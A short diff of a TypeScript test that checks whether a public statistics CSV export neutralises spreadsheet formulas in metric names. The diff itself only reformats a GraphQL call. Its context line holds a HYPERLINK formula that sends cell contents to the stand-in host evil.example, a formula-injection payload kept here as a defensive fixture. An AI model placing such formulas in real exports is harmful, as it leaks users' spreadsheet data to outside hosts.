@@ -15,8 +15,13 @@ const NAME = '=HYPERLINK("https://evil.example/?"&A1,"Klikk")';
 
 it('neutralises a formula in a metric name of the public CSV and keeps negative changes numbers', async () => {
   const admin = await app.token(Role.REGION_ADMIN);
-  const defined = ok(await app.gql(`mutation($input: DefineStatisticsMetricInput!) { defineStatisticsMetric(input: $input) { metric { code } userErrors { code } } }`,
-    { input: { serviceKind: 'PPT', code: 'export_probe', name: NAME, unit: 'saker', aggregation: 'FLOW', finestPeriod: 'YEAR' } }, admin)).defineStatisticsMetric;
+  const defined = ok(
+    await app.gql(
+      `mutation($input: DefineStatisticsMetricInput!) { defineStatisticsMetric(input: $input) { metric { code } userErrors { code } } }`,
+      { input: { serviceKind: 'PPT', code: 'export_probe', name: NAME, unit: 'saker', aggregation: 'FLOW', finestPeriod: 'YEAR' } },
+      admin,
+    ),
+  ).defineStatisticsMetric;
   expect(defined.userErrors).toEqual([]);
   const leader = await app.token(Role.SERVICE_LEADER, { service: 'ppt' });
   // Large counts (nothing suppressed), falling from 2021 to 2022: a negative change.
